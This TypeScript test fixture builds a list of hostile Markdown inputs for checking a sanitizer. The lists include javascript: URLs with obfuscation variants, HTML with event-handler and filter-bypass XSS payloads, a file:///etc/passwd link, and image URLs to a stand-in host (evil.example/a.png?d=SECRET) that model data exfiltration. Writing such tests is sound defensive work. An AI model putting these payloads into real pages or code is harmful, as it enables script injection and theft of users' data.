const SCRIPTS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  " javascript:alert(1)",
  "\u0001javascript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "file:///etc/passwd",
  "blob:https://x/1",
  "javascript&colon;alert(1)",
  "&#106;avascript:alert(1)",
  "jav&#x09;ascript:alert(1)",
  "about:blank",
  "//evil.example/x",
  "/relative",
  "chrome://settings",
  "vscode://x",
  "x:y",
  "http:evil",
  "https://",
  "http://[::1",
  "mailto:a b",
];
const REMOTE = [
  "https://evil.example/a.png?d=SECRET",
  "http://203.0.113.9/x",
  "//evil.example/p.gif",
  "https://еvil.example/p.png",
];
const HTML = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>@import 'http://evil.example'</style>",
  "<link rel=stylesheet href=//evil.example>",
  "<object data=x>",
  "<embed src=x>",
  "<form action=//evil.example><input></form>",
  "<math><mtext><script>alert(1)</script>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<video><source onerror=alert(1)></video>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo 1 ?>",
  "<x onclick=alert(1)>",
  '<img src="https://evil.example/a.png">',
  "</p><script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</script>",
  "<img\u0000src=x onerror=alert(1)>",
  "<template><script>alert(1)</script></template>",
];

/** Markdown that tries to run a script, load something or send something away. For tests. */
export function hostileMarkdown(): string[] {
  const list: string[] = [];
  for (const url of SCRIPTS)
    list.push(`[x](${url})`, `[x](<${url}>)`, `<${url}>`, `[x][r]\n\n[r]: ${url}`, `[x](${url} "t")`, `![x](${url})`);
  for (const url of REMOTE)
    list.push(
      `![x](${url})`,
      `![x](<${url}> 't')`,
      `![x][r]\n\n[r]: ${url}`,
      `[![x](${url})](${url})`,
      `![r]\n\n[r]: ${url}`,
      `| ![x](${url}) |\n|---|\n| ![y](${url}) |`,
      `> ![x](${url})`,
      `- ![x](${url})`,
      `# ![x](${url})`,
      `[^1]\n\n[^1]: ![x](${url})`,
    );
  for (const html of HTML)
    list.push(
      html,
      `a ${html} b`,
      `\`\`\`\n${html}\n\`\`\``,
      `\`${html}\``,
      `- ${html}`,
      `[${html}](https://ok.example)`,
      `![${html}](https://ok.example/a.png)`,
      `[x](https://ok.example/${html})`,
      `| ${html} |\n|---|\n| ${html} |`,
      `\`\`\`${html}\ncode\n\`\`\``,
      `**${html}**`,
    );
  list.push(
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x](https://ok.example/'onclick='alert(1))",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "````html\n```\n<script>\n````",
    "`` ` <script> ``",
    '[x](https://ok.example\n"onclick=alert(1)")',
    '![x](data:image/png;base64,iVBORw0KGgo="onerror=alert(1))',
    '!["onerror=alert(1) x="](data:image/png;base64,iVBORw0KGgo=)',
  );
  return list;
}
